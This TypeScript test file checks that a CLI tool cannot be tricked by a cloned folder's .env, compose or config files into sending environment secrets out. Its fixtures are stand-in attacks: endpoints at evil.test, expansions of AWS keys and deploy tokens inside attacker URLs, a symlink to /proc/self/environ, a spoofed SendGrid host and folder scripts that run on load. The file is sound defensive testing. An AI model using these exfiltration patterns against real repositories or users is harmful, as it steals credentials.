/** @module Folders that were built to steal a key: none gets a byte of what is in the environment. */

import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { check } from '../../../src/cli/commands/check.ts';
import { diagnoseCommand } from '../../../src/cli/commands/diagnose.ts';
import { init } from '../../../src/cli/commands/init.ts';
import { asDaemon, loadFor } from '../../../src/cli/terminal/config.ts';
import { UserError } from '../../../src/cli/terminal/io.ts';
import { exists } from '../../../src/io/files.ts';
import { makeFolder } from '../../config/folder.ts';
import { collect } from '../collect-output.ts';

const uuid = '0123abcd-0123-0123-0123-0123456789ab';
const sendgridKey = `SG.${'a'.repeat(22)}.${'b'.repeat(43)}`;

/** What a developer's shell or a CI runner holds. */
const ours = {
  BRAZE_API_KEY: uuid,
  SENDGRID_API_KEY: sendgridKey,
  MAILGUN_API_KEY: `key-${'a1'.repeat(16)}`,
  SPARKPOST_API_KEY: 'a1'.repeat(20),
  POSTMARK_SERVER_TOKEN: uuid.replaceAll('0', '9'),
  GHOST_ADMIN_API_KEY: `${'6'.repeat(24)}:${'a'.repeat(64)}`,
  ACTIVECAMPAIGN_API_KEY: 'b2'.repeat(36),
  LISTMONK_API_USER: 'api',
  LISTMONK_API_TOKEN: 'Zz'.repeat(16),
  AWS_ACCESS_KEY_ID: 'AKIAABCDEFGHIJKLMNOP',
  AWS_SECRET_ACCESS_KEY: 'Qq'.repeat(20),
  SMTP_PASSWORD: 'our-Relay-pw-77',
  MAIL_PASSWORD: 'our-Mail-pw-88',
  DEPLOY_TOKEN: 'our-deploy-token-99',
};

/** Where a folder's files point; `{port}` is the thief's. */
const folders: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'a REST endpoint': { '.env': 'BRAZE_REST_ENDPOINT=https://evil.test:{port}\n' },
  'an instance URL': { '.env': 'BRAZE_INSTANCE_URL=https://evil.test:{port}\n' },
  'a Mailgun endpoint': { '.env': 'MAILGUN_ENDPOINT=evil.test:{port}\n' },
  'a Mailgun base URL': { '.env': 'MAILGUN_BASE_URL=https://evil.test:{port}/v3\n' },
  'a SparkPost endpoint': { '.env': 'SPARKPOST_ENDPOINT=https://evil.test:{port}\n' },
  'a SendGrid host': { '.env': 'SENDGRID_HOST=https://evil.test:{port}\n' },
  'a Postmark URL': { '.env': 'POSTMARK_API_URL=https://evil.test:{port}\n' },
  'a Ghost URL': { '.env': 'GHOST_URL=https://evil.test:{port}\n' },
  'an ActiveCampaign URL': { '.env': 'ACTIVECAMPAIGN_URL=https://evil.test:{port}\n' },
  'a listmonk URL, unencrypted': { '.env': 'LISTMONK_URL=http://127.0.0.1:{port}\n' },
  'a region that is a host': { '.env': 'AWS_REGION=evil.test#\nMAILGUN_REGION=evil.test:{port}/\n' },
  'a domain that leaves the path': { '.env': 'MAILGUN_DOMAIN=evil.test\n' },
  'an SMTP host': { '.env': 'SMTP_HOST=evil.test\nSMTP_PORT={port}\nSMTP_USER=me\n' },
  'a mail host': { '.env': 'MAIL_HOST=evil.test\nMAIL_PORT={port}\nMAIL_USERNAME=me\n' },
  'a host that has the port': { '.env': 'SMTP_ADDRESS=evil.test:{port}\nSMTP_LOGIN=me\n' },
  'a host under a prefix': { '.env': 'MAIL_SMTP_SERVER=evil.test\nMAIL_SMTP_PORT={port}\nMAIL_SMTP_USER=me\n' },
  'a host in a compose file': {
    'compose.yml': 'services:\n  a:\n    environment: { SMTP_HOST: evil.test, SMTP_PORT: {port}, SMTP_USER: me }\n',
  },
  'a host in an env_file': {
    'compose.yml': 'services:\n  a:\n    env_file: relay.txt\n',
    'relay.txt': 'SMTP_HOST=evil.test\nSMTP_PORT={port}\nSMTP_USER=me\n',
  },
  'an expansion of ours': {
    '.env': 'MAIL_HOST=evil.test\nMAIL_PORT={port}\nMAIL_USER=me\nMAIL_PASS="$' + '{DEPLOY_TOKEN}"\n',
  },
  'an expansion as the user': {
    '.env': 'RELAY_HOST=evil.test\nRELAY_PORT={port}\nRELAY_USER=$AWS_SECRET_ACCESS_KEY\nRELAY_PASS=x1\n',
  },
  'an expansion in a URL': { '.env': 'MAIL_URL=smtp://me:$AWS_SECRET_ACCESS_KEY@evil.test:{port}\n' },
  'an expansion as the user of a URL': { '.env': 'MAIL_URL=smtp://$DEPLOY_TOKEN:x@evil.test:{port}\n' },
  'a DSN of an ESP with a host': { '.env': 'MAILER_DSN=sendgrid+api://$SENDGRID_API_KEY@evil.test:{port}\n' },
  'an expansion in a compose file': {
    'compose.yml':
      'services:\n  a:\n    environment: { SMTP_HOST: evil.test, SMTP_PORT: {port}, SMTP_USER: me, SMTP_PASS: "$' +
      '{DEPLOY_TOKEN}" }\n',
  },
  'a password file above the folder': {
    '.env':
      'POST_MAIL_HOST=evil.test\nPOST_MAIL_PORT={port}\nPOST_MAIL_USER=me\nPOST_MAIL_PASSWORD_FILE=../outside.txt\n',
  },
  'a password file by its absolute path': {
    '.env': 'POST_MAIL_HOST=evil.test\nPOST_MAIL_PORT={port}\nPOST_MAIL_USER=me\nPOST_MAIL_PASSWORD_FILE={outside}\n',
  },
  'a password file of the system': {
    '.env':
      'POST_MAIL_HOST=evil.test\nPOST_MAIL_PORT={port}\nPOST_MAIL_USER=me\nPOST_MAIL_PASSWORD_FILE=/etc/hostname\n',
  },
  'a compose secret above the folder': {
    'compose.yml':
      'services:\n  a:\n    environment: { SMTP_HOST: evil.test, SMTP_PORT: {port}, SMTP_USER: me, SMTP_PASS_FILE: /run/secrets/s }\nsecrets:\n  s: { file: ../outside.txt }\n',
  },
  'a log-in of its own at its own host': {
    '.env':
      'SMTP_HOST=evil.test\nSMTP_PORT={port}\nSMTP_USER=me\nSMTP_PASSWORD=x\nMAIL_PASS=x2\nMAIL_HOST=evil.test:{port}\nMAIL_USER=u\n',
  },
  'a host that only looks listed': {
    '.env': 'MAIL_HOST=smtp.sendgrid.net.evil.test\nMAIL_PORT={port}\nMAIL_USER=apikey\n',
  },
  'a user in the endpoint': { '.env': 'BRAZE_REST_ENDPOINT=https://rest.iad-01.braze.com@evil.test:{port}\n' },
  'a settings file': {
    'app.ini': '[mailer]\nHOST = evil.test:{port}\nUSER = me\n[smtp]\nhost = evil.test:{port}\nuser = me\n',
  },
};

async function openThief(): Promise<{ readonly port: number; readonly bytes: () => number }> {
  let bytes = 0;
  const server = createServer((socket) => {
    // A mail server speaks first.
    socket.write('220 evil.test ESMTP\r\n');
    socket.on('error', () => socket.destroy());
    socket.on('data', (chunk) => {
      bytes += chunk.length;
      socket.end('250 ok\r\n');
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  onTestFinished(() => new Promise<void>((done) => server.close(() => done())));
  const address = server.address();
  return { port: typeof address === 'object' && address !== null ? address.port : 0, bytes: () => bytes };
}

async function makeStrange(files: Readonly<Record<string, string>>, port: number): Promise<string> {
  const parent = await makeFolder({ 'outside.txt': 'our-outside-secret\n' });
  const folder = join(parent, 'clone');
  await mkdir(folder);
  for (const [name, text] of Object.entries(files)) {
    const path = join(folder, name);
    await mkdir(dirname(path), { recursive: true });
    await writeFile(path, text.replaceAll('{port}', String(port)).replaceAll('{outside}', join(parent, 'outside.txt')));
  }
  return folder;
}

/** Every connection goes to the thief if the folder's host is meant, and nowhere otherwise. */
function options(port: number) {
  const connectTo = [`evil.test::127.0.0.1:${port}`, `smtp.sendgrid.net.evil.test::127.0.0.1:${port}`];
  const rest = [`127.0.0.1:${port}::`, '::127.0.0.1:9'];
  return { set: [], connectTo: [...connectTo, ...rest], record: false, investigate: false };
}

/** Runs a command; a mistake of the user is an end like any other. */
async function end(command: Promise<number>): Promise<number> {
  return command.catch((error: unknown) => {
    if (error instanceof UserError) return error.exitCode;
    throw error;
  });
}

test('there are thirty folders and more', () => {
  expect(Object.keys(folders).length).toBeGreaterThanOrEqual(30);
});

describe.each(Object.entries(folders))('%s', (_, files) => {
  test('gets no byte, whether there is a terminal or not, and init writes no such pair', async () => {
    const thief = await openThief();
    const folder = await makeStrange(files, thief.port);
    for (const answers of [undefined, []]) {
      const { io, stdout, stderr } = collect(folder, ours, answers);
      await end(diagnoseCommand([], options(thief.port), io));
      for (const secret of Object.values(ours).filter((text) => text.length > 12))
        expect(stdout() + stderr()).not.toContain(secret);
    }
    const { io } = collect(folder, ours);
    await end(init(io));
    await end(diagnoseCommand([], options(thief.port), collect(folder, ours).io));
    expect(thief.bytes()).toBe(0);
  });
});

test('files that are too much are named, and the rest is found', async () => {
  const files = { 'big.yaml': 'x'.repeat(1024 * 1024 + 1), '.env': `SENDGRID_API_KEY=${sendgridKey}\n` };
  const { io, stdout, stderr } = collect(await makeFolder(files));
  expect(await end(diagnoseCommand([], { ...options(9), plan: true, json: true }, io))).toBe(0);
  expect(stdout()).toContain('"provider":"sendgrid"');
  expect(stderr()).toContain('Not read, or not to the end: big.yaml. The most of a folder is 60 files');
});

test('a link instead of .env leads nowhere', async () => {
  const thief = await openThief();
  const folder = await makeStrange({ 'x.env': 'MAIL_HOST=evil.test\nMAIL_PORT={port}\nMAIL_USER=me\n' }, thief.port);
  await symlink('/proc/self/environ', join(folder, '.env'));
  await symlink('../outside.txt', join(folder, 'secret.txt'));
  await end(diagnoseCommand([], options(thief.port), collect(folder, ours).io));
  expect(thief.bytes()).toBe(0);
});

describe("a host that stands beside the folder's own password", () => {
  const files = { '.env': 'RELAY_HOST=evil.test\nRELAY_PORT={port}\nRELAY_USER=me\nRELAY_PASS=own-secret-1\n' };

  test('without a terminal: the plan alone, exit code 64, and the flag by its name', async () => {
    const thief = await openThief();
    const folder = await makeStrange(files, thief.port);
    const { io, stdout, stderr } = collect(folder);
    expect(await end(diagnoseCommand([], options(thief.port), io))).toBe(64);
    expect(stderr()).toContain('--allow-host evil.test');
    expect(stdout()).toContain(`SMTP log-in at smtp://evil.test:${thief.port}`);
    expect(thief.bytes()).toBe(0);
  });

  test.each<[string, object, readonly string[] | undefined]>([
    ['with the flag', { allowHost: ['evil.test'] }, undefined],
    ['with a yes at the terminal', {}, ['y']],
  ])('%s it is asked', async (_, more, answers) => {
    const thief = await openThief();
    const folder = await makeStrange(files, thief.port);
    await end(diagnoseCommand([], { ...options(thief.port), ...more }, collect(folder, {}, answers).io));
    expect(thief.bytes()).toBeGreaterThan(0);
  });
});

describe('a config of the folder that would run something', () => {
  const configs = {
    exec: 'integrations:\n  - { id: a, provider: sendgrid, key: { exec: [FOLDER/run.sh] } }\n',
    plugin: 'providers: plugins\nintegrations: []\n',
    channel: 'integrations: []\nchannels:\n  - { id: c, type: exec, command: [FOLDER/run.sh] }\n',
  };

  async function makeRunning(text: string): Promise<{ readonly folder: string; readonly mark: string }> {
    const folder = await makeFolder({ 'keymedic.yaml': '', 'plugins/evil.mjs': '' });
    const mark = join(folder, 'ran');
    await writeFile(join(folder, 'keymedic.yaml'), text.replaceAll('FOLDER', folder));
    await writeFile(join(folder, 'run.sh'), `#!/bin/sh\ntouch ${mark}\necho x\n`, { mode: 0o700 });
    const code = `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(mark)}, '');\nexport default {};\n`;
    await writeFile(join(folder, 'plugins/evil.mjs'), code);
    return { folder, mark };
  }

  test.each(Object.entries(configs))('%s: neither runs nor loads', async (_, text) => {
    const { folder, mark } = await makeRunning(text);
    const home = await makeFolder({});
    const { io, stdout } = collect(folder, { HOME: home });
    expect(await check({ resolve: true }, io)).toBe(78);
    expect(stdout()).toContain('name it if that is wanted: --config');
    expect(await end(diagnoseCommand([], options(9), collect(folder, { HOME: home }).io))).toBe(78);
    expect(await exists(mark)).toBe(false);
  });

  test('runs if it is named, and after it was confirmed once; a changed config is asked about again', async () => {
    const { folder, mark } = await makeRunning(configs.exec);
    const home = await makeFolder({});
    expect(await check({ config: 'keymedic.yaml', resolve: true }, collect(folder, { HOME: home }).io)).toBe(0);
    expect(await exists(mark)).toBe(true);
    expect(await check({ resolve: true }, collect(folder, { HOME: home }, ['y']).io)).toBe(0);
    expect(await check({ resolve: true }, collect(folder, { HOME: home }).io)).toBe(0);
    await writeFile(join(folder, 'keymedic.yaml'), `${configs.exec.replaceAll('FOLDER', folder)}# new\n`);
    expect(await check({ resolve: true }, collect(folder, { HOME: home }).io)).toBe(78);
  });
});

describe('a config of the folder that names hosts', () => {
  const smtp = 'provider: smtp, endpoint: "smtp://evil.test:PORT", credential: { username: me, password: REF }';
  const configs: Readonly<Record<string, string>> = {
    'an endpoint': `integrations:\n  - { id: a, ${smtp.replace('REF', '{ env: SMTP_PASSWORD }')} }\n`,
    'an endpoint and a file elsewhere': `integrations:\n  - { id: a, ${smtp.replace('REF', '{ file: ../outside.txt }')} }\n`,
    'an endpoint and an env_file elsewhere': `env_file: ../outside.env\nintegrations:\n  - { id: a, ${smtp.replace('REF', '{ env: OUTSIDE }')} }\n`,
    'a redirection': `integrations:\n  - { id: a, provider: sendgrid, key: { env: SENDGRID_API_KEY } }\nnetwork: { connect_to: ["api.sendgrid.com:443:evil.test:PORT"] }\n`,
    'a proxy': `integrations:\n  - { id: a, provider: sendgrid, key: { env: SENDGRID_API_KEY } }\nnetwork: { proxy: "http://evil.test:PORT" }\n`,
    'a server of its own API': `integrations:\n  - { id: a, provider: http, key: { env: SENDGRID_API_KEY }, http: { url: "https://evil.test:PORT/" } }\n`,
  };

  test.each(Object.entries(configs))('%s: gets nothing of elsewhere', async (_, text) => {
    const thief = await openThief();
    const folder = await makeStrange({ 'keymedic.yaml': text.replaceAll('PORT', '{port}') }, thief.port);
    await writeFile(join(folder, '..', 'outside.env'), 'OUTSIDE=our-outside-secret\n');
    const home = await makeFolder({});
    const { io } = collect(folder, { ...ours, HOME: home });
    await expect(diagnoseCommand([], options(thief.port), io)).rejects.toThrow('name it if that is wanted: --config');
    expect(thief.bytes()).toBe(0);
  });

  const relay = `env_file: .env\nintegrations:\n  - { id: a, ${smtp.replace('REF', '{ env: X }')} }\n`;
  const server =
    'env_file: .env\nintegrations:\n  - { id: a, provider: http, key: { env: X }, http: { url: "https://evil.test:PORT/" } }\n';
  test.each([
    ['a variable by its name', relay, 'X=$SMTP_PASSWORD\n'],
    ['a variable in braces', relay, 'X=$' + '{SMTP_PASSWORD}\n'],
    ['a variable with a default', relay, 'X=$' + '{DEPLOY_TOKEN:-none}\n'],
    ['a variable within other text', relay, 'X="a-$' + '{DEPLOY_TOKEN}-z"\n'],
    ['a variable of a variable', relay, 'A=$' + '{DEPLOY_TOKEN}\nB=x$A\nC=$' + '{A}\nX=$C\n'],
    ['a variable that is set later', relay, 'X=$' + '{DEPLOY_TOKEN}\nDEPLOY_TOKEN=decoy\n'],
    ['a key without a shape', server, 'export X=$' + '{MAIL_PASSWORD}\n'],
  ])('%s in its .env: what is made of ours is ours', async (_, text, dotenv) => {
    const thief = await openThief();
    const files = { 'keymedic.yaml': text.replaceAll('PORT', '{port}'), '.env': dotenv };
    const folder = await makeStrange(files, thief.port);
    const { io } = collect(folder, { ...ours, HOME: await makeFolder({}) });
    await expect(diagnoseCommand([], options(thief.port), io)).rejects.toThrow('name it if that is wanted: --config');
    expect(thief.bytes()).toBe(0);
  });

  test.each([
    ['its own variables', 'A=x-own-1\nX=$' + '{A}\n'],
    ['what stands in single quotes', "X='$" + "{DEPLOY_TOKEN}'\n"],
    ['a default', 'X=$' + '{NOT_SET:-x-own-1}\n'],
  ])('a variable of its .env that is made of %s is its own', async (_, dotenv) => {
    const folder = await makeFolder({ 'keymedic.yaml': relay.replaceAll('PORT', '587'), '.env': dotenv });
    expect((await loadFor(collect(folder, ours).io, undefined)).config).toBeDefined();
  });

  test.each([
    ['https://api.sendgrid.com', true],
    ['https://api.eu.sendgrid.com/', true],
    ['https://API.sendgrid.com:443', true],
    ['smtp://smtp.sendgrid.net:2525', true],
    ['smtps://smtp.sendgrid.net:465', true],
    ['http://api.sendgrid.com', false],
    ['HTTP://api.sendgrid.com:443', false],
    ['https://api.sendgrid.com:8443', false],
    ['https://other.sendgrid.com', false],
    ['smtp://api.sendgrid.com', false],
  ])('the endpoint %s is the whole base URL of the list: %s', async (endpoint, isListed) => {
    const credential = endpoint.startsWith('smtp')
      ? 'credential: { username: apikey, password: { env: SENDGRID_API_KEY } }'
      : 'key: { env: SENDGRID_API_KEY }';
    const text = `integrations:\n  - { id: a, provider: sendgrid, ${credential}, endpoint: "${endpoint}" }\n`;
    const { io } = collect(await makeFolder({ 'keymedic.yaml': text }), { ...ours });
    expect((await loadFor(io, undefined)).config !== undefined).toBe(isListed);
  });

  test.each([
    ['by its whole path', '{outside}'],
    ['above it', '../theirs.yaml'],
    ['by a link', 'link.yaml'],
    ['by a pattern, through a link', 'd/*.yaml'],
  ])('an included file outside the folder is not read, %s', async (_, pattern) => {
    const thief = await openThief();
    const text = `include: ["${pattern}"]\ndefaults: { endpoint: "https://evil.test:{port}" }\nintegrations: []\n`;
    const folder = await makeStrange({ 'keymedic.yaml': text }, thief.port);
    const theirs = JSON.stringify({ integrations: [{ id: 'z', provider: 'braze', key: uuid }] });
    await mkdir(join(folder, '..', 'there'));
    for (const name of ['theirs.yaml', 'outside.txt', 'there/a.yaml'])
      await writeFile(join(folder, '..', name), theirs);
    await symlink('../theirs.yaml', join(folder, 'link.yaml'));
    await symlink('../there', join(folder, 'd'));
    const { io } = collect(folder, { HOME: await makeFolder({}) });
    await expect(diagnoseCommand([], options(thief.port), io)).rejects.toThrow('from files outside the folder');
    expect(thief.bytes()).toBe(0);
  });

  test('an included file of the folder is read', async () => {
    const files = { 'keymedic.yaml': 'include: ["d/*.yaml"]\n', 'd/a.yaml': 'integrations: []\n' };
    expect((await loadFor(collect(await makeFolder(files)).io, undefined)).config).toBeDefined();
  });

  test('an address of this machine is nobody else, and the daemon is started for its hosts', async () => {
    const near = `integrations:\n  - { id: a, provider: smtp, endpoint: "smtp://127.0.0.1:1", credential: { username: me, password: { env: SMTP_PASSWORD } } }\n`;
    const { io } = collect(await makeFolder({ 'keymedic.yaml': near }), { ...ours });
    expect((await loadFor(io, undefined)).config).toBeDefined();
    const far = near.replace('127.0.0.1', 'mail.example.com');
    const other = collect(await makeFolder({ 'keymedic.yaml': far }), { ...ours }).io;
    expect((await loadFor(other, undefined)).config).toBeUndefined();
    expect((await loadFor(other, undefined, asDaemon)).config).toBeDefined();
  });

  test.each([
    ['mail.example.com::127.0.0.1:2525', true],
    ['mail.example.com:587:127.0.0.1:', true],
    ['mail.example.com:465:127.0.0.1:2465', false],
    ['other.example.com::127.0.0.1:2525', false],
    ['::127.0.0.1:2525', false],
    [':587:127.0.0.1:2525', false],
    ['127.0.0.1::mail.example.com:', false],
  ])('a host that is connected to this machine by %s: %s', async (rule, isNear) => {
    const text = `integrations:\n  - { id: a, provider: smtp, endpoint: "smtp://mail.example.com", credential: { username: me, password: { env: SMTP_PASSWORD } } }\nnetwork: { connect_to: ["${rule}"] }\n`;
    const { io } = collect(await makeFolder({ 'keymedic.yaml': text }), { ...ours });
    expect((await loadFor(io, undefined)).config !== undefined).toBe(isNear);
  });

  test('many keys of one file are looked at in one reading', async () => {
    const keys = Array.from({ length: 3000 }, (_, at) => `KEY_${at}=k-${at}\n`).join('');
    const list = Array.from(
      { length: 3000 },
      (_, at) => `  - { id: a${at}, provider: http, key: { env: KEY_${at} }, http: { url: "https://evil.test/" } }\n`,
    ).join('');
    const files = { 'keymedic.yaml': `env_file: .env\nintegrations:\n${list}`, '.env': keys };
    const { io } = collect(await makeFolder(files), { ...ours });
    expect((await loadFor(io, undefined)).config).toBeDefined();
  }, 30_000);

  test('a rule for all hosts takes no key to a host of the folder, and leaves the lists as they are', async () => {
    const network = 'network: { connect_to: ["::127.0.0.1:9"] }\n';
    const listed = `integrations:\n  - { id: a, provider: sendgrid, key: { env: SENDGRID_API_KEY } }\n${network}`;
    const near = `integrations:\n  - { id: a, provider: http, key: { env: DEPLOY_TOKEN }, http: { url: "http://127.0.0.1:9/" } }\n${network}`;
    const named = near.replace('http://127.0.0.1:9/', 'https://evil.test/');
    const isLoaded = async (text: string) =>
      (await loadFor(collect(await makeFolder({ 'keymedic.yaml': text }), { ...ours }).io, undefined)).config !==
      undefined;
    expect([await isLoaded(listed), await isLoaded(near), await isLoaded(named)]).toEqual([true, true, false]);
  });

  test('a secret of its own goes to its own host, and a person may allow the others', async () => {
    const thief = await openThief();
    const named = (configs['an endpoint'] ?? '').replaceAll('PORT', '{port}');
    const own = await makeStrange(
      { 'keymedic.yaml': `env_file: .env\n${named.replace('SMTP_PASSWORD', 'OWN')}`, '.env': 'OWN=x-own-1\n' },
      thief.port,
    );
    const home = await makeFolder({});
    await end(diagnoseCommand([], options(thief.port), collect(own, { HOME: home }).io));
    const before = thief.bytes();
    expect(before).toBeGreaterThan(0);
    const folder = await makeStrange({ 'keymedic.yaml': named }, thief.port);
    await end(diagnoseCommand([], options(thief.port), collect(folder, { ...ours, HOME: home }, ['y']).io));
    expect(thief.bytes()).toBeGreaterThan(before);
  });
});
